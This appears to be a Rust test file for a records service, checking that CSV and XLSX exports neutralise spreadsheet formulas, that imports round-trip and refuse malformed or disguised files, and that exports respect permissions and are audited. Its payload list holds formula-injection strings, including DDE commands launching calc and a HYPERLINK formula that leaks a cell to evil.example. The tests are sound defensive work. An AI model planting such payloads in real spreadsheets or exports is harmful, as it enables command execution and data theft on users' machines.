//! H: tables in and out.

use guanxi_testkit::Client;
use serde_json::{Value as Json, json};

use super::world::{Call, World, on_sqlite, text_of};

const FORMULAS: [&str; 12] = [
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1+1",
    "\"=1+1",
    "=HYPERLINK(\"http://evil.example?\"&A1)",
    "=cmd|' /C calc'!A0",
    ";=1+1",
];

/// Cells of a CSV file as a spreadsheet takes them.
fn cells(text: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let (mut quoted, mut rest) = (false, text.trim_start_matches('\u{feff}').chars().peekable());
    while let Some(letter) = rest.next() {
        match letter {
            '"' if quoted && rest.peek() == Some(&'"') => {
                rest.next();
                cells.last_mut().unwrap().push('"');
            }
            '"' => quoted = !quoted,
            ',' | '\n' if !quoted => cells.push(String::new()),
            other => cells.last_mut().unwrap().push(other),
        }
    }
    cells
}

#[test]
fn no_cell_that_goes_out_is_a_formula() {
    on_sqlite(|world| {
        for text in FORMULAS {
            let reply = world.rep.post("/records/account", json!({ "name": format!("n{text}"), "short_name": text, "description": text }));
            assert!([201, 422].contains(&reply.status), "{text:?}: {}", reply.json);
            if reply.status == 422 {
                world.rep.post("/records/account", json!({ "name": format!("n{}", text.trim()), "description": text.trim() })).expect(201);
            }
        }
        let csv = world.ask(&world.rep, &Call::get("/records/account/export?format=csv&fields=name,short_name,description"));
        let text = String::from_utf8(csv.bytes).unwrap();
        for cell in cells(&text) {
            let first = cell.chars().next().unwrap_or('x');
            assert!(!['=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'].contains(&first), "{cell:?} in {text}");
        }
        // A formula of a workbook would have no text; every cell has its own.
        let book = world.ask(&world.rep, &Call::get("/records/account/export?format=xlsx&fields=name,short_name,description"));
        let table = guanxi_tabular::open(book.bytes, "a.xlsx", guanxi_tabular::Limits::default()).unwrap();
        assert_eq!(table.count_rows().unwrap(), (FORMULAS.len() as u64 + 1, 0));
        let log = world.admin.get("/audit/export");
        for cell in cells(&String::from_utf8(log.bytes).unwrap()) {
            assert!(!cell.starts_with(['=', '@']), "{cell:?}");
        }
    });
}

#[test]
fn what_went_out_harmless_comes_in_as_it_was() {
    on_sqlite(|world| {
        let names = ["+86 x", "-x", "=1+1", "@x"];
        for name in names {
            world.rep.post("/records/account", json!({ "name": name })).expect(201);
        }
        let filter = super::world::encode("name != 'Plain'");
        let csv = world.rep.get(&format!("/records/account/export?format=csv&fields=name&filter={filter}"));
        let named = world.rep.with_header("content-disposition", "attachment; filename=\"a.csv\"");
        let upload = named.post_bytes("/imports?object=account", "text/csv", &csv.bytes).expect(201);
        let path = format!("/imports/{}", text_of(&upload, "id"));
        let plan = json!({ "mapping": [{ "column": 1, "field": "name", "options": {} }], "match": null });
        assert_eq!(world.rep.post(&format!("{path}/plan"), plan).expect(200)["counts"]["create"], 4);
        world.rep.post(&format!("{path}/run"), json!({})).expect(202);
        world.server.settle();
        let list = world.rep.get(&format!("/records/account?limit=500&filter={filter}")).expect(200);
        let mut found: Vec<&str> = list["items"].as_array().unwrap().iter().map(|it| text_of(it, "name")).collect();
        found.sort_unstable();
        assert_eq!(found, names.into_iter().flat_map(|it| [it, it]).collect::<Vec<_>>(), "each as it was, twice");
    });
}

fn import(client: &Client<'_>, name: &str, bytes: &[u8]) -> guanxi_testkit::Reply {
    let named = client.with_header("content-disposition", &format!("attachment; filename=\"{name}\""));
    named.post_bytes("/imports?object=contact", "application/octet-stream", bytes)
}

#[test]
fn tables_that_are_not_what_they_say_are_refused_whole() {
    on_sqlite(|world| {
        let wide = vec!["x"; 50_000].join(",");
        let line = format!("a,b\n{}\n", "x".repeat(5_000_000));
        let quotes = format!("a,b\n\"{}", "x,y\n".repeat(200_000));
        for (name, bytes) in [
            ("a.xlsx", b"PK\x03\x04 this is no archive".to_vec()),
            ("a.xlsx", b"a,b\n1,2\n".to_vec()),
            ("a.csv", b"PK\x03\x04".to_vec()),
            ("a.csv", vec![0; 4_096]),
            ("a.csv", b"a,b\n\xff\xfe\xfd,\xc0\x80\n".to_vec()),
            ("a.csv", wide.into_bytes()),
            ("a.csv", line.into_bytes()),
            ("a.csv", quotes.into_bytes()),
            ("a.exe", b"MZ".to_vec()),
            ("a.csv", Vec::new()),
        ] {
            let reply = import(&world.rep, name, &bytes);
            world.clean("", &reply, name);
            assert!(reply.status == 201 || (400..500).contains(&reply.status), "{name}: {} {}", reply.status, reply.json);
            if reply.status == 201 {
                plan_and_run(world, &reply.json);
            }
        }
        world.rep.get("/records/contact").expect(200);
    });
}

/// Whatever was taken is planned without a fault.
fn plan_and_run(world: &World<'_>, upload: &Json) {
    let path = format!("/imports/{}/plan", text_of(upload, "id"));
    let plan = json!({ "mapping": [{ "column": 0, "field": "name", "options": {} }], "match": null });
    let reply = world.ask(&world.rep, &Call::post(path, plan));
    assert!([200, 400, 413, 422].contains(&reply.status), "{}", reply.json);
}

#[test]
fn an_export_takes_no_more_than_its_right_and_leaves_a_line_in_the_log() {
    on_sqlite(|world| {
        let before = world.server.audit(&["export"]).len();
        world.ask(&world.rep, &Call::get("/records/account/export?format=json"));
        let lines = world.server.audit(&["export"]);
        assert_eq!(lines.len(), before + 1);
        super::world::change_rep(&world.admin, |role| role["objects"]["account"]["export"] = json!(false));
        for format in ["csv", "xlsx", "json"] {
            world.rep_refused(&[403], &Call::get(format!("/records/account/export?format={format}")));
        }
        world.refused(&world.partner, &[403, 404], &Call::get("/records/account/export"));
        world.refused(&world.program, &[403], &Call::get("/records/lead/export"));
    });
}
